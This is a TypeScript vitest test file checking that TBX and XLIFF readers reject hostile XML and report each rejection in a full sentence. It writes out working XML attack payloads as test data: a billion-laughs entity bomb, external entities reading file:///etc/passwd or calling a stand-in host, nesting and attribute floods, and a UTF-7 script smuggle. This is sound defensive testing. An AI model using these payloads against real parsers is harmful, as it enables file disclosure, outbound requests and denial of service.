import { describe, expect, it } from 'vitest';
import { readTbx } from '../../../shared/exchange/tbx-reader.ts';
import { writeTbx } from '../../../shared/exchange/tbx-writer.ts';
import { readXliff } from '../../../shared/exchange/xliff-reader.ts';
import { writeXliff } from '../../../shared/exchange/xliff-writer.ts';
import { bilingual } from '../../fixtures/exchange.ts';
import { recordTried } from '../record.ts';

const OURS = bilingual();
const FILES = {
  TBX: { good: await writeTbx(OURS), read: readTbx },
  XLIFF: {
    good: await writeXliff(OURS, 'es', { reviewers: [], today: '2025-06-15' }),
    read: readXliff,
  },
};

const laughs = Array.from({ length: 9 }, (_, i) => {
  const before = i === 0 ? 'ha' : `&l${i - 1};`;
  return `<!ENTITY l${i} "${before.repeat(10)}">`;
}).join('');

/** Puts a document type declaration before the root, and a reference into the first text. */
const declaring = (declaration: string) => (good: string) =>
  good.replace(/(<\?xml[^>]*\?>)?/, `$1<!DOCTYPE x [${declaration}]>`).replace(/SNAP/, '&l8;&x;');

/** What XML has been made to do to those who read it. */
const BOMBS: Readonly<Record<string, (good: string) => string>> = {
  'a billion laughs': declaring(laughs),
  'a file of this machine': declaring('<!ENTITY x SYSTEM "file:///etc/passwd">'),
  'a file of the network': declaring('<!ENTITY x SYSTEM "https://tracker.example/">'),
  'a declaration elsewhere': (good) =>
    good.replace(/(<\?xml[^>]*\?>)?/, '$1<!DOCTYPE x SYSTEM "https://tracker.example/x.dtd">'),
  'a declaration in small letters': (good) =>
    good.replace(/(<\?xml[^>]*\?>)?/, '$1<!doctype x []>'),
  'a parameter entity': declaring('<!ENTITY % x SYSTEM "https://tracker.example/"> %x;'),
  'an entity nobody declared': (good) => good.replace('SNAP', '&nothing;'),
  'elements without end': (good) => good.replace('SNAP', '<a>'.repeat(200_000)),
  'a million attributes twice': (good) =>
    good.replace(/<(\w+) /, `<$1 ${'a="1" '.repeat(100_000)}`),
  'a character by a huge number': (good) => good.replace('SNAP', `&#${'9'.repeat(1000)};`),
  'half a character': (good) => good.replace('SNAP', '&#xD800;'),
  'another encoding': (good) => good.replace('utf-8', 'utf-7').replace('SNAP', '+ADw-script+AD4-'),
};

describe.each(Object.entries(FILES))('%s', (name, { good, read }) => {
  it('that was made to harm is refused in a sentence', () => {
    expect(read(good).faults).toEqual([]);
    const failed: string[] = [];
    for (const [what, make] of Object.entries(BOMBS)) {
      const text = make(good);
      const { patches, faults } = read(text);
      const said = JSON.stringify(patches);
      if (/root:|haha|tracker/.test(said)) failed.push(`${what}: it was followed`);
      if (what !== 'another encoding' && faults.length === 0) failed.push(`${what}: it was taken`);
      for (const { message } of faults) {
        if (!/^[“"A-Z].*[.)”]$/s.test(message)) failed.push(`${what}: ${message.slice(0, 100)}`);
      }
    }
    const tried = Object.keys(BOMBS).length;
    recordTried({ part: 'data', what: `${name} made to harm`, tried, failed });
    expect(failed).toEqual([]);
  });
});
